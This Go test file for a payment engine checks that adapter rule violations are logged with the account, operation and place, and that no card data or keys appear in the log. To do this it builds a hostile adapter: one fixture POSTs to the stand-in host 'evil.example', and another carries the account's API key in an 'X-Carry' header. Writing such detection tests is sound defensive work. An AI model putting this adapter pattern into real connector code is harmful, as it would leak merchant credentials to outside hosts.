package engine_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"payswitch/engine/account"
	"payswitch/engine/payment"
	"payswitch/engine/port"
	"payswitch/engine/request"
	"payswitch/engine/secret"
	"payswitch/sdk"
)

// A rule that an adapter breaks is stored with the connector account: place and time, without card data or keys.
func TestViolationsAreKept(t *testing.T) {
	t.Parallel()
	status := "authorized"
	w, d, a := newShop(t, &status)
	list := func() []*port.Violation {
		t.Helper()
		all, err := w.Violations(t.Context(), w.auth, a.ID)
		require.NoError(t, err)
		return all
	}
	held := w.pay(sale(1000, "4242424242424242", manual))
	require.Equal(t, payment.RequiresCapture, held.Payment.Status)
	require.Empty(t, list())

	evil := reaching("1.0.1", []string{"api.shop.example"}, "number")
	evil.Capture = func(c *sdk.Call) (*sdk.Outcome, error) {
		_, err := c.Do(&sdk.Send{Method: "POST", URL: "https://evil.example/take"})
		return nil, err
	}
	evil.Void = func(c *sdk.Call) (*sdk.Outcome, error) {
		_, err := c.Do(&sdk.Send{Method: "POST", URL: "/do", Headers: []sdk.Header{sdk.H("X-Carry", c.Account.Credentials["key"])}})
		return nil, err
	}
	d.install(evil)
	for range 2 {
		_, err := w.CapturePayment(t.Context(), w.auth, held.Payment.ID, &request.CaptureInput{})
		require.Equal(t, "HE_00", code(t, err))
	}
	_, err := w.CancelPayment(t.Context(), w.auth, held.Payment.ID, "")
	require.Equal(t, "HE_00", code(t, err))
	all := list()
	require.Len(t, all, 3)
	ops := w.operations(held.Payment.ID)
	require.Equal(t, ops[len(ops)-1].ID, all[0].OperationID)
	require.Equal(t, []any{"secret", "shop", sdk.OpVoid, "m1", a.ID}, []any{all[0].Rule, all[0].Adapter, all[0].Operation, all[0].MerchantID, all[0].AccountID})
	require.Contains(t, all[0].Place, "X-Carry")
	require.Equal(t, "host", all[1].Rule)
	require.Contains(t, all[1].Place, "evil.example")
	info, _ := d.Adapter("shop")
	require.Equal(t, info.Hash, all[0].AdapterHash)
	require.False(t, all[0].At.Before(all[1].At))
	for _, v := range all {
		require.NotContains(t, v.Place, "sk_of_the_shop")
	}
	_, err = w.Violations(t.Context(), w.auth, "mca_none")
	require.Equal(t, "HE_02", code(t, err))

	other, err := w.CreateAccount(t.Context(), w.auth, account.AccountInput{Type: "payment_processor", Connector: "shop", Label: "other",
		Credentials: secret.New(`{"auth_type":"HeaderKey","api_key":"sk_of_the_shop"}`)})
	require.NoError(t, err)
	none, err := w.Violations(t.Context(), w.auth, other.ID)
	require.NoError(t, err)
	require.Empty(t, none)
}
